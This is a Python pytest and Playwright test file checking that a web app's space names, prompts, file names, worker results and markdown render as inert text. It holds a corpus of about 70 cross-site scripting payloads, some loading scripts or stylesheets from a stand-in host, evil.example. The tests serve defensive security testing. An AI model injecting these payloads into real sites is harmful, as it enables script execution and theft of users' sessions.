"""Row 9: whatever people and workers write is shown as text, or as markdown that can do nothing."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Dialog, Page

from project.web.markdown import ATTRIBUTES, MOST_CHARS, TAGS, rendered
from tests.conftest import LiveSite, eventually
from tests.relay.socket_client import Client, held, v2

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=`x`onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import'//evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<p style=position:fixed;inset:0;background:red>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ ''.__class__ }}{% raw %}",
    "${alert(1)}`${alert(1)}`",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "[x](http://ok.example \"onclick='alert(1)'\")",
    "[x]: javascript:alert(1)\n\n[x]",
    '```html"><script>alert(1)</script>\nx\n```',
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
IN_A_NAME = re.compile(r"[\x00-\x1f\u200b-\u200f\u202a-\u202e\ufeff]")


PUT_ALL = """async (ids) => {
  const rich = document.querySelector("[data-part=rich]");
  for (const id of ids) {
    const holder = document.createElement("template");
    holder.innerHTML = (await (await fetch(`/websockets/rendered/${id}`)).json()).html;
    rich.append(holder.content);
  }
}"""


class Watched:
    """A page that notes every dialog and every violation of its policy."""

    def __init__(self, context: BrowserContext):
        self.troubles: list[str] = []
        self.asked: list[str] = []
        self.page: Page = context.new_page()
        self.page.add_init_script(
            "window.violations = []; document.addEventListener('securitypolicyviolation',"
            " (event) => window.violations.push(event.violatedDirective + ' ' + event.blockedURI));"
        )
        self.page.on("dialog", self._dialog)
        self.page.on("console", self._console)
        self.page.on("request", lambda request: self.asked.append(request.url))

    def _dialog(self, dialog: Dialog) -> None:
        self.troubles.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.troubles.append(message.text)

    def is_quiet(self, site: LiveSite) -> None:
        """Nothing ran, nothing was tried, and nothing was asked of anybody else."""
        self.troubles += self.page.evaluate("window.violations")
        assert self.troubles == [], self.page.url
        assert [url for url in self.asked if not url.startswith((site.host, "blob:", "data:"))] == []


@pytest.fixture
def watched(site: LiveSite, browser: Browser) -> Iterator[Watched]:
    context = browser.new_context(locale="en")
    session = site.login()
    context.add_cookies([{"name": k, "value": v, "url": site.host} for k, v in session.cookies.items()])
    yield Watched(context)
    context.close()


@pytest.mark.slow
def test_corpus_is_large_enough() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.slow
def test_names_of_spaces(site: LiveSite, watched: Watched) -> None:
    admin = site.login()
    names = [IN_A_NAME.sub(" ", payload)[:100].strip() for payload in PAYLOADS]
    for name in names:
        form = {"name": name, "description": name, "card_type": "websockets", "cover": "default.png"}
        answer = admin.post(f"{site.host}/admin/space/add", data={**form, "ws_enable_prompt": "on"})
        assert answer.status_code == 200, name
    for address in ("/", "/admin/"):
        watched.page.goto(site.host + address, wait_until="networkidle")
        text = watched.page.locator("body").inner_text()
        assert all(" ".join(name.split()) in " ".join(text.split()) for name in names)
        watched.is_quiet(site)
    edit = watched.page.locator("a[href*='/admin/space/edit/']").first.get_attribute("href")
    watched.page.goto(f"{site.host}{edit}", wait_until="networkidle")
    watched.is_quiet(site)


@pytest.mark.slow
def test_prompts_file_names_messages_errors_and_results(site: LiveSite, watched: Watched) -> None:
    space_id = site.make_space("Written", ws_enable_file_upload="on")
    worker = Client(site)
    assert worker.register("Written", **v2("written"))["success"]
    session = site.login()
    watched.page.goto(f"{site.host}/ai_project/{space_id}", wait_until="load")
    whole, ids = "\n".join(PAYLOADS), []
    url = f"{site.host}/websockets/submit/{space_id}"
    for status in ("completed", "failed"):
        for start in (0, 40):
            files = [("other_file", (payload.replace("\n", " "), b"x")) for payload in PAYLOADS[start : start + 40]]
            sent = session.post(url, data={"prompt": whole}, files=files)
            assert sent.status_code == 200, sent.text
            ids.append(sent.json()["request_id"])
        # The page is there while it happens: every place is filled by its script.
        for _ in range(2):
            work = worker.next()
            worker.call("inference_progress", {**held(work), "seq": 1, "percent": 5, "message": whole[:900]})
            worker.call("inference_chunk", {**held(work), "seq": 1, "text": whole})
            result: dict[str, Any] = {"text_output": whole, whole[:80]: whole, "nested": {whole: [whole]}}
            result = result if status == "completed" else {"error": whole}
            assert worker.call("inference_result", {**held(work), "status": status, "result": result})["ok"]
    for request_id in ids:
        watched.page.goto(f"{site.host}/requests/{request_id}", wait_until="load")
        watched.page.locator(".state-completed, .state-failed").and_(watched.page.locator("[data-part]")).wait_for()
        for summary in watched.page.locator("summary").all():
            if summary.is_visible():
                summary.click()
        assert "<img src=x onerror=alert(1)>" in watched.page.locator(".request").first.inner_text()
        watched.is_quiet(site)
    for address in (f"/ai_project/{space_id}", "/requests", "/admin/", f"/admin/space/edit/{space_id}"):
        watched.page.goto(site.host + address, wait_until="load")
        watched.is_quiet(site)
    worker.close()


@pytest.mark.slow
def test_results_in_markdown(site: LiveSite, watched: Watched) -> None:
    space_id = site.make_space("Marked", ws_max_queue="1000")
    worker = Client(site)
    assert worker.register("Marked", **v2("marked", capacity=100))["success"]
    session = site.login()
    sent = [site.submit(session, space_id, prompt=str(number))["request_id"] for number in range(len(PAYLOADS))]
    by_prompt = {}
    for _ in sent:
        work = worker.next()
        by_prompt[int(work["payload"]["prompt"])] = work
    for number, payload in enumerate(PAYLOADS):
        result = {"text_output": f"**bold** {payload}\n\n{payload}", "format": "markdown"}
        answer = worker.call("inference_result", {**held(by_prompt[number]), "status": "completed", "result": result})
        assert answer["ok"]
    rich = watched.page.locator("[data-part=rich]")
    for request_id in sent[::8]:
        watched.page.goto(f"{site.host}/requests/{request_id}", wait_until="load")
        rich.locator("strong").first.wait_for()
        # The others, all into this page, as its script would put them there.
        watched.page.evaluate(PUT_ALL, sent[sent.index(request_id) :][:8])
        for link in rich.locator("a").all():
            assert re.match(r"https?://|/", link.get_attribute("href") or "/"), request_id
            assert {"noopener", "nofollow"} <= set((link.get_attribute("rel") or "").split())
        assert rich.locator("img, script, style, iframe, form, input, svg, [onclick], [style]").count() == 0
        watched.is_quiet(site)
    worker.close()


@pytest.mark.slow
def test_markdown_is_for_results_that_say_so(site: LiveSite, watched: Watched) -> None:
    space_id = site.make_space("Plain")
    worker = Client(site)
    assert worker.register("Plain", **v2("plain"))["success"]
    session, other = site.login(), site.login("testuser", "testpass123")
    ids = []
    for more in ({}, {"format": "html"}, {"format": "markdown"}):
        ids.append(site.submit(session, space_id, prompt="x")["request_id"])
        result = {"text_output": "**not bold** <b>x</b>", **more}
        assert worker.call("inference_result", {**held(worker.next()), "status": "completed", "result": result})["ok"]
    told = [session.get(f"{site.host}/websockets/rendered/{request_id}").json()["html"] for request_id in ids]
    assert told == [None, None, "<p><strong>not bold</strong> &lt;b&gt;x&lt;/b&gt;</p>\n"]
    assert other.get(f"{site.host}/websockets/rendered/{ids[2]}").status_code == 404
    watched.page.goto(f"{site.host}/requests/{ids[1]}")
    eventually(lambda: "**not bold** <b>x</b>" in watched.page.locator("[data-part=text]").inner_text())
    assert watched.page.locator("[data-part=rich]").is_hidden()
    worker.close()


class _Seen(HTMLParser):
    """Every tag and attribute of a text in HTML that is not on the list."""

    def __init__(self) -> None:
        super().__init__()
        self.foreign: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.foreign.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | {"rel"}:
                self.foreign.append(name)
            schemed = name == "href" and re.match(r"[\s\x00-\x20]*[a-z][a-z0-9+.-]*:", value or "", re.I)
            if schemed and not re.match(r"https?:", value or "", re.I):
                self.foreign.append(f"href {value}")


def foreign(html: str) -> list[str]:
    seen = _Seen()
    seen.feed(html)
    seen.close()
    return seen.foreign


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_payloads_hold_nothing_that_is_not_listed(payload: str) -> None:
    for text in (payload, f"x {payload} x", f"> {payload}", f"- {payload}", f"|a|\n|-|\n|{payload}|", f"`{payload}"):
        html = rendered(text)
        assert html is not None
        assert foreign(html) == [], text


@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", "*", "`", "[", "](", ")", "<", ">", "|", "# "]), max_size=8))
@settings(max_examples=150, deadline=None)
def test_mixtures_hold_nothing_that_is_not_listed(parts: list[str]) -> None:
    html = rendered("".join(parts))
    assert html is not None
    assert foreign(html) == []


def test_rendering_is_bounded() -> None:
    assert rendered("x" * (MOST_CHARS + 1)) is None
    for deep in ("[" * MOST_CHARS, "> " * (MOST_CHARS // 2), "*a **a " * (MOST_CHARS // 7)):
        assert rendered(deep) is not None


@pytest.mark.slow
def test_json_is_never_taken_for_a_page(site: LiveSite) -> None:
    session = site.login()
    answer = session.get(f"{site.host}/websockets/status", params={"request_id": "<script>alert(1)</script>"})
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert json.loads(answer.text)["success"] is False
